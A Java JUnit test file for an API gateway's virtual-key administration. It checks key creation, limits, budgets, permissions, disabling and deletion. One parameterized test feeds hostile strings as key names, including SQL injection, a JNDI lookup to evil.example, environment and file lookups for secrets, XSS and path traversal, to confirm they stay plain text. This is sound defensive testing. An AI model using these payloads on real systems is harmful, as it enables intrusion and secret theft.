package caravan.keys;

import static org.assertj.core.api.Assertions.assertThat;

import caravan.Gate;
import caravan.door.Rig;
import com.fasterxml.jackson.databind.JsonNode;
import com.openai.models.chat.completions.ChatCompletion;
import com.openai.models.chat.completions.ChatCompletionCreateParams;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A key that is made while the gateway runs opens the door, for what it may do and as long as it is there. */
class MadeKeysTest {
    private static Rig rig;
    private static Admin admin;

    @BeforeAll
    static void start() {
        rig = Rig.house(plan -> Admin.in(plan).file("config/keys.yaml", KeyFile.of("filed", "filed-key")));
        admin = Admin.of(rig.gate());
    }

    @AfterAll
    static void stop() {
        rig.close();
    }

    private static HttpResponse<String> chat(JsonNode key, String model) {
        return rig.gate().post("/v1/chat/completions", Gate.chat(model, false), "Authorization", Admin.bearer(key));
    }

    @Test
    void itIsShownOnceAndNobodyOnTheWayMayKeepIt() {
        HttpResponse<String> made =
                admin.send("POST", "/admin/keys", "{\"name\": \"once\", \"owner\": \"ana\", \"team\": \"search\"}");

        assertThat(made.statusCode()).isEqualTo(201);
        JsonNode key = Admin.tree(made);
        assertThat(key.path("key").asText()).matches("ck-[0-9A-Za-z]{43}");
        assertThat(key.path("owner").asText()).isEqualTo("ana");
        assertThat(key.path("state").asText()).isEqualTo("active");
        assertThat(made.headers().firstValue("Cache-Control")).hasValue("no-store");
        String place = made.headers().firstValue("Location").orElseThrow();
        assertThat(place).isEqualTo("/admin/keys/" + Admin.id(key));

        HttpResponse<String> shown = admin.get(place);
        assertThat(shown.statusCode()).isEqualTo(200);
        assertThat(Admin.tree(shown).path("name").asText()).isEqualTo("once");
        assertThat(shown.body() + admin.get("/admin/keys").body())
                .doesNotContain("ck-", KeyFile.sha256(key.path("key").asText()));
    }

    @Test
    void theOfficialSdkWorksWithIt() {
        JsonNode key = admin.make("{\"name\": \"sdk\"}");

        ChatCompletion answer = rig.sdk(key.path("key").asText())
                .chat()
                .completions()
                .create(ChatCompletionCreateParams.builder()
                        .model("gpt-4o")
                        .addUserMessage("Hello")
                        .build());

        assertThat(answer.choices()).isNotEmpty();
        assertThat(rig.lastSeen().headers("authorization")).containsExactly("Bearer sk-house");
        assertThat(rig.gate().entries().getLast().path("caller").asText()).isEqualTo("sdk");
    }

    private static int echo(JsonNode key) {
        return chat(key, "demo/echo").statusCode();
    }

    @Test
    void aLimitHoldsFromTheNextCallOnAndItsChangeDoesToo() {
        JsonNode key = admin.make("{\"name\": \"paced\", \"limits\": [{\"amount\": 1, \"window\": \"1h\"}]}");
        assertThat(echo(key)).isEqualTo(200);
        assertThat(echo(key)).isEqualTo(429);

        admin.change(key, "{\"limits\": null}");
        assertThat(echo(key)).isEqualTo(200);

        admin.change(key, "{\"limits\": [{\"amount\": 0, \"window\": \"1h\"}]}");
        assertThat(echo(key)).isEqualTo(429);
    }

    @Test
    void aBudgetHoldsFromTheNextCallOnAndItsChangeDoesToo() {
        JsonNode key = admin.make("{\"name\": \"poor\", \"budget\": \"0/day\"}");
        assertThat(echo(key)).isEqualTo(402);

        admin.change(key, "{\"budget\": \"5/day\"}");
        assertThat(echo(key)).isEqualTo(200);

        admin.change(key, "{\"budget\": \"0/total\"}");
        assertThat(echo(key)).isEqualTo(402);
    }

    @Test
    void whatItMayDoChangesWithTheNextCall() {
        JsonNode key = admin.make("{\"name\": \"changing\", \"models\": [\"gpt-4o\"], \"owner\": \"ana\"}");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);
        assertThat(chat(key, "demo/echo").statusCode()).isEqualTo(403);

        JsonNode changed = admin.change(key, "{\"models\": [\"demo/*\"], \"team\": \"search\"}");

        assertThat(changed.path("owner").asText()).as("what was not said").isEqualTo("ana");
        assertThat(changed.path("team").asText()).isEqualTo("search");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(403);
        assertThat(chat(key, "demo/echo").statusCode()).isEqualTo(200);

        assertThat(admin.change(key, "{\"models\": null}").has("models")).isFalse();
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);
    }

    @Test
    void aPartOfABudgetChangesAndTheRestStays() {
        JsonNode key = admin.make("{\"name\": \"spending\", \"budget\": {\"usd\": 5, \"per\": \"day\"}}");

        admin.change(key, "{\"budget\": {\"usd\": 1234567890.123456789010}}");

        assertThat(admin.get("/admin/keys/" + Admin.id(key)).body())
                .as("to the last digit")
                .contains("\"budget\":{\"usd\":1234567890.123456789010,\"per\":\"day\"}");
    }

    @Test
    void aChangeThatIsWrongChangesNothing() {
        JsonNode key = admin.make("{\"name\": \"steady\", \"models\": [\"gpt-4o\"]}");

        HttpResponse<String> refused =
                admin.send("PATCH", "/admin/keys/" + Admin.id(key), "{\"models\": [], \"owner\": \"x\"}");

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(admin.get("/admin/keys/" + Admin.id(key)).body())
                .contains("gpt-4o")
                .doesNotContain("owner");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);
    }

    @Test
    void aNameStays() {
        JsonNode key = admin.make("{\"name\": \"lasting\"}");

        HttpResponse<String> refused = admin.send("PATCH", "/admin/keys/" + Admin.id(key), "{\"name\": \"new\"}");

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(Admin.tree(refused).at("/error/param").asText()).isEqualTo("name");
    }

    @Test
    void oneThatIsSwitchedOffOpensNothingUntilItIsOnAgain() {
        JsonNode key = admin.make("{\"name\": \"switched\"}");

        assertThat(admin.change(key, "{\"enabled\": false}").path("state").asText())
                .isEqualTo("disabled");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(401);
        assertThat(chat(key, "gpt-4o").body()).contains("This key is switched off.");

        admin.change(key, "{\"enabled\": true}");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);
    }

    @Test
    void oneThatIsWithdrawnIsGone() {
        JsonNode key = admin.make("{\"name\": \"withdrawn\"}");
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);

        admin.delete(key);

        assertThat(chat(key, "gpt-4o").body()).contains("Incorrect API key provided.");
        for (String method : List.of("GET", "PATCH", "DELETE")) {
            HttpResponse<String> answer = admin.send(method, "/admin/keys/" + Admin.id(key), "{}");
            assertThat(answer.statusCode()).as(method).isEqualTo(404);
            assertThat(answer.body()).contains("\"code\":\"key_not_found\"");
        }
        assertThat(admin.make("{\"name\": \"withdrawn\"}").path("key").asText())
                .isNotEqualTo(key.path("key").asText());
    }

    @Test
    void ofManyOrdersForOneNameOneIsDone() throws Exception {
        List<Callable<Integer>> orders = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            orders.add(() ->
                    admin.send("POST", "/admin/keys", "{\"name\": \"wanted\"}").statusCode());
        }
        List<Integer> statuses = new ArrayList<>();
        try (ExecutorService threads = Executors.newFixedThreadPool(64)) {
            for (Future<Integer> answer : threads.invokeAll(orders)) {
                statuses.add(answer.get());
            }
        }

        assertThat(statuses).containsOnlyOnce(201);
        assertThat(statuses).filteredOn(status -> status == 409).hasSize(199);
    }

    @Test
    void aGoodKeyIsNeverRefusedWhileItIsChanged() throws Exception {
        JsonNode key = admin.make("{\"name\": \"busy\"}");
        List<Integer> statuses = new ArrayList<>();
        try (ExecutorService thread = Executors.newSingleThreadExecutor()) {
            Future<?> changes = thread.submit(() -> {
                for (int i = 0; i < 100; i++) {
                    admin.change(key, "{\"owner\": \"owner " + i + "\"}");
                }
            });
            while (!changes.isDone()) {
                statuses.add(chat(key, "demo/echo").statusCode());
            }
            changes.get();
        }

        assertThat(statuses).isNotEmpty().containsOnly(200);
    }

    @Test
    void theFilesNamesAreTaken() {
        HttpResponse<String> refused = admin.send("POST", "/admin/keys", "{\"name\": \"filed\"}");

        assertThat(refused.statusCode()).isEqualTo(409);
        assertThat(refused.body()).contains("config/keys.yaml has a key of the name 'filed'", "\"param\":\"name\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'); DROP TABLE virtual_key; --",
                "\" OR 1=1 --",
                "${jndi:ldap://evil.example/x}",
                "${env:OPENAI_API_KEY}",
                "${file:/etc/hostname}",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "../../etc/passwd",
                "%n%s{}",
                "null",
                "Δοκιμή 🐫"
            })
    void aNameIsATextAndNothingElse(String name) {
        String quoted = caravan.call.Json.quote(name);

        JsonNode key = admin.make("{\"name\": " + quoted + ", \"owner\": " + quoted + "}");

        assertThat(key.path("name").asText()).isEqualTo(name);
        assertThat(Admin.tree(admin.get("/admin/keys/" + Admin.id(key)))
                        .path("owner")
                        .asText())
                .isEqualTo(name);
        assertThat(chat(key, "gpt-4o").statusCode()).isEqualTo(200);
        assertThat(rig.gate().entries().getLast().path("caller").asText()).isEqualTo(name);
        admin.delete(key);
    }

    @Test
    void ordersAreNoCalls() {
        int asked = rig.fake().seen().size();
        int entries = rig.gate().journal().size();
        JsonNode key = admin.make("{\"name\": \"reader\"}");
        int calls = calls(key);

        admin.delete(admin.make("{\"name\": \"quiet\"}"));
        admin.get("/admin/keys/none");

        assertThat(rig.fake().seen()).hasSize(asked);
        assertThat(rig.gate().journal()).hasSize(entries);
        assertThat(calls(key)).isEqualTo(calls);
    }

    private static int calls(JsonNode key) {
        return Admin.tree(rig.gate().get("/stats", "Authorization", Admin.bearer(key)))
                .path("calls")
                .asInt();
    }
}
